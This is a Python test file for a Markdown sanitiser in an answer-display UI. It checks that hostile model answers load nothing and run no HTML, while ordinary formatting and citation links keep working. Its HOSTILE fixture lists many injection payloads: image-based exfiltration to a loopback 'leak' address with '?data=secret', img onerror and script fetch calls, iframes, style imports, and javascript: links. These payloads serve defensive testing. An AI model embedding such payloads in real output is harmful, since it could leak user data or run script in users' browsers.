"""Untrusted text made safe for Markdown: hostile answers and documents load nothing and run no HTML,
while ordinary formatting and the answers' citations still work.

Each output is rendered back to HTML by a CommonMark renderer with raw HTML allowed (the most
permissive reading), and the HTML is checked tag by tag. The real browser check, against the
Markdown renderer Streamlit uses, is tests/e2e/test_safe_rendering_flow.py.
"""

from __future__ import annotations

import html
import random
import re
import string
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from core.ui.answers import answer_markdown, link_citations
from core.ui.safe_text import code, literal, safe_markdown, stream_markdown

LEAK = "http://127.0.0.1:9/leak"
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# What formatting may become; none of it can fetch anything.
FORMATTING_TAGS = {"p", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
                   "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}

HOSTILE = {
    "inline image": f"Answer ![x]({LEAK}?data=secret) done",
    "image with title": f'![x]({LEAK} "title")',
    "image in angle brackets": f"![x](<{LEAK}>)",
    "reference image": f"![x][ref]\n\n[ref]: {LEAK}",
    "shortcut reference image": f"![ref]\n\n[ref]: {LEAK}",
    "collapsed reference image": f"![ref][]\n\n[ref]: {LEAK}",
    "reference defined first": f"[ref]: {LEAK}\n\nSee ![it][ref].",
    "image inside a link": f"[![x]({LEAK}/img)]({LEAK}/link)",
    "image in a heading": f"# Title ![x]({LEAK})",
    "image in a setext heading": f"Title ![x]({LEAK})\n===",
    "image in a list": f"- one\n- ![x]({LEAK})\n  - ![y]({LEAK})",
    "image in an ordered list": f"3) ![x]({LEAK})",
    "image in a quote": f"> quoted ![x]({LEAK})\n> > deeper <img src={LEAK}>",
    "image in a table": f"| a | b |\n|---|---|\n| ![x]({LEAK}) | <img src={LEAK}> |",
    "image in emphasis": f"**bold ![x]({LEAK})** and _it ![y]({LEAK})_",
    "image with backslash URL": "![x](http:\\\\127.0.0.1:9\\leak)",
    "data image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "html img": f'<img src="{LEAK}">',
    "html IMG shouting": f"<IMG SRC={LEAK}>",
    "html img across lines": f'text <img\nsrc="{LEAK}"\n/> more',
    "html img onerror": f"<img src=x onerror=\"fetch('{LEAK}')\">",
    "html img srcset": f'<img srcset="{LEAK} 2x">',
    "html block": f'<div>\n<img src="{LEAK}">\n</div>',
    "markdown inside an html block": f"<div>\n\n![x]({LEAK})\n\n</div>",
    "svg image": f'<svg><image href="{LEAK}"/></svg>',
    "picture source": f'<picture><source srcset="{LEAK}"></picture>',
    "video poster": f'<video poster="{LEAK}"></video>',
    "iframe": f'<iframe src="{LEAK}"></iframe>',
    "stylesheet": f'<link rel="stylesheet" href="{LEAK}">',
    "style import": f"<style>@import url({LEAK});</style>",
    "style attribute": f'<p style="background:url({LEAK})">x</p>',
    "script": f"<script>fetch('{LEAK}')</script>",
    "html comment": f"<!-- ![x]({LEAK}) -->",
    "cdata": f"<![CDATA[ <img src={LEAK}> ]]>",
    "processing instruction": f"<?xml-stylesheet href='{LEAK}'?>",
    "javascript link": "[click](javascript:alert(1))",
    "javascript html link": '<a href="javascript:alert(1)">click</a>',
    "data html link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "entity-written img": f"&lt;img src={LEAK}&gt; and &#60;img src={LEAK}&#62;",
    "entity-written image": f"&#33;[x]({LEAK}) and !&#91;x&#93;({LEAK})",
    "escaped bang": f"\\![x]({LEAK})",
    "autolink": f"<{LEAK}>",
    "email autolink": "<mailto:someone@example.com>",
    "streamlit directives": f":red[x] :material/home: :blue-background[![x]({LEAK})]",
    "math": f"$\\includegraphics{{{LEAK}}}$ and $$\\href{{{LEAK}}}{{x}}$$",
    "indented html": f"    <img src={LEAK}>",
    "html in code is fine": f"`<img src={LEAK}>` and\n\n```html\n<img src={LEAK}>\n```",
    "a fence that tries to close early": f"````\n```\n<img src={LEAK}>\n````",
    "backticks in inline code": f"`` a ` <img src={LEAK}> ``",
    "nested quotes and lists": "> - > - > " * 15 + f"![x]({LEAK})",
    "unclosed image": f"![x]({LEAK}",
    "unclosed html": f"<img src={LEAK}",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.tags.append(("<!--", {}))

    def handle_decl(self, decl):
        self.tags.append(("<!", {}))

    def handle_pi(self, data):
        self.tags.append(("<?", {}))

    def unknown_decl(self, data):
        self.tags.append(("<![", {}))


def rendered(markdown: str) -> _Tags:
    parser = _Tags()
    parser.feed(RENDERER.render(markdown))
    parser.close()
    return parser


def assert_inert(markdown: str) -> None:
    """Only formatting tags, and no attribute but a table cell's alignment or a code block's language."""
    for tag, attrs in rendered(markdown).tags:
        assert tag in FORMATTING_TAGS, (tag, attrs, markdown)
        allowed = {"style"} if tag in ("th", "td") else {"class"} if tag == "code" else {"start"} if tag == "ol" else set()
        assert set(attrs) <= allowed, (tag, attrs, markdown)
        assert all(value and "http" not in value and "(" not in value for value in attrs.values()), (tag, attrs)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_markdown_loads_nothing_and_runs_no_html(name):
    assert_inert(safe_markdown(HOSTILE[name]))


@pytest.mark.parametrize("name", HOSTILE)
def test_output_is_stable(name):
    """Made safe twice is made safe once: the output already means exactly what it shows."""
    safe = safe_markdown(HOSTILE[name])
    assert safe_markdown(safe) == safe


def shown_text(markdown: str) -> str:
    return " ".join("".join(rendered(markdown).text).split())


@pytest.mark.parametrize("source, shown", [
    (f"Answer ![x]({LEAK}?data=secret) done", f"Answer [image: x] ({LEAK}?data=secret) done"),
    (f"![x][ref]\n\n[ref]: {LEAK}", f"[image: x] ({LEAK})"),
    (f"![]({LEAK})", f"[image] ({LEAK})"),
    (f"![a *b* `c`]({LEAK})", f"[image: a b c] ({LEAK})"),
    (f"see [the spec]({LEAK}) now", f"see the spec ({LEAK}) now"),
    (f"<{LEAK}>", LEAK),
    (f'<img src="{LEAK}">', f'<img src="{LEAK}">'),
    (f"a <b>bold</b> <img src={LEAK}> b", f"a <b>bold</b> <img src={LEAK}> b"),
    ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
    ("&lt;img&gt; &amp; &#33;", "<img> & !"),
    (":red[x] $y$", ":red[x] $y$"),
])
def test_what_the_reader_sees(source, shown):
    """Images and links name their full address as text; HTML shows as the text it is."""
    assert shown_text(safe_markdown(source)) == shown


@pytest.mark.parametrize("text", [f"see {LEAK}\\<img src=x>", "WWW.example.com/a\\<b>", "x https://a.b/c\\*d*"])
def test_bare_addresses_start_no_gfm_link(text):
    """GFM links a bare http://... or www.... up to the next space or <, reading no escapes inside: the
    backslash of an escaped < would become part of the address and the < raw again. Neither may start one."""
    for safe in (safe_markdown(text), literal(text)):
        outside_code = safe.split("`")[0::2]
        assert not any(re.search(r"(?<!\\)://", part) or "www." in part.lower() for part in outside_code), safe
    assert shown_text(literal(text)) == text


def test_html_block_keeps_its_lines():
    safe = safe_markdown(f'<div>\n<img src="{LEAK}">\n</div>')
    assert RENDERER.render(safe).count("<br />") == 2
    assert shown_text(safe) == f'<div> <img src="{LEAK}"> </div>'


def test_formatting_survives():
    source = (
        "# Relief valves\n\nThe valve opens at **3.5 bar** (see _the memo_) and ~~4 bar~~.\n\n"
        "1. Test it every quarter\n2. Record it:\n   - in the log\n   - with `the date`\n\n"
        "> Never block it.\n\n```python\nprint('<ok>')\n```\n\n| part | bar |\n|:---|---:|\n| B2 | 3.5 |\n\n***\n\nEnd  \nline"
    )
    safe = safe_markdown(source)
    assert_inert(safe)
    assert RENDERER.render(safe) == RENDERER.render(source)


@pytest.mark.parametrize("source", [
    "1. one\n\n2. two, loose\n\n   second paragraph",
    "- a\n- b\n\n  para in b\n- c",
    "* star\n+ plus",
    "10) ten\n11) eleven",
    "- ```\n  code in a list\n  ```\n- next",
    "    indented code <img>",
    "Setext\n---",
    "a  \nhard\\\nbreaks",
    "> quote\n>\n> - list in quote",
    "| `a|b` | c |\n|---|---|\n| d | e\\|f |",
    "*it* **bold** ***both*** _u_ __uu__ a*b*c",
    "2024. A year, 3) three, - dash, + plus, = equals, # hash",
])
def test_structure_is_kept(source):
    """What the text meant as Markdown (minus images, links and HTML) renders the same after."""
    assert RENDERER.render(safe_markdown(source)) == RENDERER.render(source)


def test_plain_text_shows_as_written():
    text = "Opens at 3.5 bar, per the memo (2024); ask: who? 50% of 'cases' -- see \"B2\" / C3."
    assert shown_text(safe_markdown(text)) == text


@pytest.mark.parametrize("seed", range(20))
def test_literal_shows_any_text_as_written(seed):
    rng = random.Random(seed)
    alphabet = string.ascii_letters + string.digits + string.punctuation + "  \t·é€"
    text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 80)))
    for prefix in ("", "- ", "1. ", "**x** "):
        safe = prefix + literal(text)
        assert_inert(safe)
        assert shown_text(safe).endswith(" ".join(text.split())), (text, safe)


@pytest.mark.parametrize("text", ["1. intro.md", "- notes", "# Title", "=", "+ plus", "  7) seven", "a\nb\n\nc"])
def test_literal_starts_no_block(text):
    assert RENDERER.render(literal(text)).startswith("<p>")
    assert shown_text(literal(text)) == " ".join(text.split())


def test_literal_keeps_plain_names_readable():
    """Names and our own sentences stay readable Markdown (pages and tests compare them)."""
    for name in ("Base + RAG", "Fine-tuned (tiny-lora)", "Answer A: Base model", "boiler-memo.txt: added, 3 chunks."):
        assert literal(name) == name


@pytest.mark.parametrize("text", ["plain", "a`b", "``", "` x `", " lead", "trail ", "", "x|y"])
def test_code_span_holds_any_text(text):
    html_out = RENDERER.render(code(text))
    assert html_out.count("<code>") == 1
    inner = html.unescape(html_out.split("<code>")[1].split("</code>")[0])
    assert inner == (text or " ")


def test_citations_still_link_to_their_sources():
    markdown = answer_markdown("It opens at 3.5 bar [1], tested in March [2, 3]; see [9] and [1](http://x/y).", turn=4,
                               source_count=3)
    tags = rendered(markdown).tags
    links = [attrs["href"] for tag, attrs in tags if tag == "a"]
    assert links == ["#source-4-1", "#source-4-2", "#source-4-3"]  # [9] has no source; the markdown link is text
    assert "[9]" in shown_text(markdown) and "1 (http://x/y)" in shown_text(markdown)


def test_citations_inside_hostile_answers_link_only_to_anchors():
    markdown = answer_markdown(f"[1] ![x]({LEAK}) <img src={LEAK}> \\\\[2]", turn=0, source_count=2)
    tags = rendered(markdown).tags
    assert {tag for tag, _ in tags} <= FORMATTING_TAGS | {"a"}
    assert [attrs["href"] for tag, attrs in tags if tag == "a"] == ["#source-0-1", "#source-0-2"]


def test_link_citations_needs_safe_markdown():
    """Given raw text it links nothing: its brackets would still be Markdown's to read."""
    assert link_citations("[1]", 0, 1) == "[1]"


class Slot:
    """Records what a st.empty() would show, one call per update."""

    def __init__(self) -> None:
        self.shown: list[str] = []

    def markdown(self, text: str) -> None:
        self.shown.append(text)


def test_streaming_is_safe_at_every_update():
    answer = f"Here: ![x]({LEAK}) and <img src={LEAK}> [1]."
    slot = Slot()
    text = stream_markdown(slot, list(answer), finish=lambda t: answer_markdown(t, 0, 1))
    assert text == answer
    assert 2 <= len(slot.shown) <= len(answer) + 1  # the first piece at once; later ones as parsing time allows
    assert slot.shown[0] == "H"
    for shown in slot.shown[:-1]:
        assert_inert(shown)
    assert [attrs["href"] for tag, attrs in rendered(slot.shown[-1]).tags if tag == "a"] == ["#source-0-1"]


def test_streaming_always_shows_the_whole_text_last():
    slot = Slot()
    pieces = [f"![x]({LEAK}) ", "a" * 3000, " <img src=x>", " end"]
    assert stream_markdown(slot, pieces) == "".join(pieces)
    assert slot.shown[-1] == safe_markdown("".join(pieces))
    for shown in slot.shown:
        assert_inert(shown)


def test_pathological_inputs_finish():
    for source in ("[" * 5000, "![" * 3000 + "x" + "](y)" * 3000, ">" * 2000 + " x", "*" * 5000 + "a", "<" * 5000,
                   "- " * 1000 + "x", "`" * 3000):
        assert_inert(safe_markdown(source))
